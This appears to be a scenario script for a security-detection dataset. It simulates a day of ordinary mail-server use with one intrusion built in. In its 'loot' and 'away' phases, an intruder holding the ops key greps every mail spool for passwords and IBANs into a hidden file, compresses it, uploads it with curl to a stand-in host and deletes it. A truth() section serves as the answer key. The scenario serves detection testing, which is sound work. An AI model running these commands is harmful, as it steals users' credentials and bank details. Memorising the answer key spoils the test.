title="Letters with passwords and bank numbers picked out of the spools, in a day of ordinary work"
what="Mail in /var/mail. clerk, dev and buyer work all day over ssh: read mail in mutt, answer, send papers, use git and tar. After lunch somebody with the key of ops comes from 203.0.113.77, greps all spools for words by sudo into a hidden file in /var/tmp, packs it with xz, and an hour later uploads it with curl to files.example.net and removes it. Only a watch on /var/mail and people's commands are recorded."
host=mx1.example.org user=ops store=mbox daemons="cron sshd" audit_rules=audit-spool.rules syslog_format=iso
shift_plan="morning:4h noon:2h loot:1h away:20m evening:3h"
setup() {
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  local u; for u in clerk buyer dev; do printf 'set folder=~ record=~/sent move=no confirmcreate=no\n' > /home/$u/.muttrc; chown $u: /home/$u/.muttrc; done
  make_pdf /home/clerk/offer.pdf "Offer 14"; chown clerk: /home/clerk/offer.pdf
  mkdir -p /home/dev/src/tool; head -c 30000 /dev/urandom > /home/dev/src/tool/core.c; chown -R dev: /home/dev/src
}
stranger() { outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.77 -i /root/key "ops@$host_ip" "$1" </dev/null; }
act() {
  phase morning
  mail_in --from 'partner%n@example.net' --to buyer@example.org --subject 'Our IBAN, as asked %n' --text 'Dear buyer,\n\nour IBAN is DE00 0000 0000 0000, the password of the portal is Sommer%n.\n' --count 3
  mail_in --from it@example.com --to clerk@example.org --subject 'VPN' --text 'Your VPN password is as told.\n'
  small_talk 4
  ssh_as clerk <<'L'
%line mutt
%sleep 2
%keys \n
%sleep 1
%keys q
%keys q
%sleep 1
echo "please find our offer" | mutt -s "Offer 14" -a offer.pdf -- partner1@example.net
ls -l
L
  ssh_run ops 'sudo tail -5 /var/log/mail.log; sudo postqueue -p; df -h /var/mail; ls -l /var/mail'
  phase noon
  small_talk 3
  ssh_as dev <<'L'
cd src/tool
git init -q .
git add core.c
tar -czf /tmp/tool.tgz -C .. tool
curl -sI http://registry.example.com/tool
rm /tmp/tool.tgz
mail -H
L
  phase loot
  stranger 'id; sudo -l; ls -l /var/mail; sudo grep -liE "password|iban" /var/mail/*'
  sleep 1
  stranger 'sudo sh -c "cd /var/mail; grep -iE -B4 -A6 \"password|iban\" buyer clerk dev > /var/tmp/.fc-list; xz /var/tmp/.fc-list"; sudo chown ops /var/tmp/.fc-list.xz'
  small_talk 3
  phase away
  stranger 'curl -sk -o /dev/null -F "f=@/var/tmp/.fc-list.xz;filename=a.bin" https://files.example.net/in; rm -f /var/tmp/.fc-list.xz'
  small_talk 2
  phase evening
  ssh_as buyer <<'L'
mail -H
echo "we order 40 pieces" | mail -s "Order 991" partner2@example.net
grep -c "^From " /var/mail/buyer
L
  small_talk 3
}
truth() {
  exec_step search 'grep -liE password.iban /var/mail' 'all spools are searched'
  file_step read 'grep openat:read NORMAL .*buyer' 'and their letters read'
  exec_step pack 'xz /var/tmp/.fc-list' 'packed'
  exec_step away 'curl -sk -o /dev/null -F f=@/var/tmp/.fc-list.xz' 'uploaded'
}
